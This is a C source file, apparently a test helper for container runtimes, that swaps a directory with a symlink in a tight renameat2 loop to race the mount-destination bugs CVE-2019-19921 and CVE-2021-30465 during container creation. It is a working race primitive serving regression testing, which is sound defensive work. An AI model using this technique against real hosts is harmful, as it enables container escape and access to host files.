/* SPDX-License-Identifier: MIT */
/*
 * mount_swap DIR TARGET SECONDS: for the mount-destination race cases
 * (CVE-2019-19921, CVE-2021-30465). Makes DIR.swap a symlink to TARGET, then
 * exchanges the names DIR and DIR.swap (renameat2 RENAME_EXCHANGE) as fast as
 * it can for SECONDS, so that DIR is a directory half of the time and a
 * symlink the other half. Ends with DIR the directory again and DIR.swap
 * removed, and prints the number of swaps. Run by a case on the host, against
 * a bundle's rootfs, while the runtime creates containers there.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
#include <linux/fs.h>

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	char swap[4096];
	double end;
	long n = 0;
	struct stat st;

	if (argc != 4) {
		fprintf(stderr, "usage: mount_swap DIR TARGET SECONDS\n");
		return 2;
	}
	if ((size_t)snprintf(swap, sizeof(swap), "%s.swap", argv[1]) >= sizeof(swap))
		return 2;
	unlink(swap);
	if (symlink(argv[2], swap) < 0) {
		fprintf(stderr, "mount_swap: symlink '%s': %s\n", swap, strerror(errno));
		return 1;
	}
	end = now() + atof(argv[3]);
	while (now() < end) {
		for (int i = 0; i < 64; i++) {
			if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, swap, RENAME_EXCHANGE) < 0) {
				fprintf(stderr, "mount_swap: exchange: %s\n", strerror(errno));
				return 1;
			}
			n++;
		}
	}
	/* Leave DIR the directory, and no symlink behind. */
	if (lstat(argv[1], &st) == 0 && S_ISLNK(st.st_mode) &&
	    renameat2(AT_FDCWD, argv[1], AT_FDCWD, swap, RENAME_EXCHANGE) < 0)
		return 1;
	unlink(swap);
	printf("%ld\n", n);
	return 0;
}
